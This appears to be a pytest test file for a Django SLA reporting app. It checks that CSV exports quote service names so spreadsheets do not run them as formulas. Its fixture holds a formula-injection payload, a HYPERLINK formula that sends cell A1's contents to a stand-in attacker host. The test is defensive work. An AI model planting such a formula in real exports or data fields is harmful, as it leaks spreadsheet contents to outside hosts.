"""SLA report CSVs quote text a spreadsheet would run as a formula (core.exports)."""

import csv
import io

import pytest
from django.urls import reverse

from sla import sweep as sla_sweep
from sla.tests.conftest import kst

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def evil_service_breached(definition, open_incident, groupware):
    groupware.name = EVIL
    groupware.save(update_fields=["name"])
    open_incident(now=kst(2026, 11, 23, 10, 0), service=groupware)
    sla_sweep.sweep(now=kst(2026, 11, 24, 10, 0))
    return groupware


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_compliance_csv_by_service_quotes_the_name(client, manager, evil_service_breached):
    client.force_login(manager)
    rows = _rows(client.get(reverse("sla:report") + "?month=2026-11&by=service&format=csv"))
    assert rows[1][0] == "'" + EVIL
    assert rows[1][1:4] == ["2", "0", "2"]  # numbers stay numbers


def test_service_report_csv_quotes_the_name(client, manager, evil_service_breached):
    client.force_login(manager)
    rows = _rows(client.get(reverse("sla:service_report")
                            + f"?month=2026-11&service={evil_service_breached.pk}&format=csv"))
    assert [row[0] for row in rows[1:]] == ["'" + EVIL] * 2
